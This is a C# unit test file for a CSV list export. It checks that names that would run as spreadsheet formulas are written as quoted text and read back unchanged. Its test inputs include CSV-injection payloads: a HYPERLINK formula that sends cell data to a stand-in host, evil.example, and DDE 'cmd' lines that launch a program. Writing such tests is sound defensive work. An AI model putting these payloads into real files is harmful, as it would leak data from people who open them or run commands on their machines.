using Parley.Matching.Records;

namespace Parley.Import.Tests;

/// <summary>Issue 11: a name from the other side's list never becomes a live formula in the file the mediator opens.</summary>
public sealed class SpreadsheetSafetyTests : IDisposable
{
    private readonly TempFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("'=already quoted")]
    public void a_cell_that_would_run_as_a_formula_is_written_as_text_and_read_back_as_it_was(string surname)
    {
        var path = _folder.File("list.csv");
        ListWriter.WriteCsv(path, [new ListRecord("p1", surname, "Микола", null, null, null, null, null, null, null, null, null, 2)]);

        var written = File.ReadAllLines(path)[1];
        var cell = written.Split(',', 3)[1].Trim('"');
        Assert.StartsWith("'", cell, StringComparison.Ordinal);
        Assert.Equal(surname, ListReader.Read(path).Records.Single().Surname);
    }

    [Theory]
    [InlineData("Шевченко")]
    [InlineData("O'Brien")]
    [InlineData("'Amato")]
    public void an_ordinary_cell_is_written_as_it_is(string surname)
    {
        var path = _folder.File("list.csv");
        ListWriter.WriteCsv(path, [new ListRecord("p1", surname, "Микола", null, null, null, null, null, null, null, null, null, 2)]);

        Assert.Contains($",{surname},", File.ReadAllText(path), StringComparison.Ordinal);
        Assert.Equal(surname, ListReader.Read(path).Records.Single().Surname);
    }
}
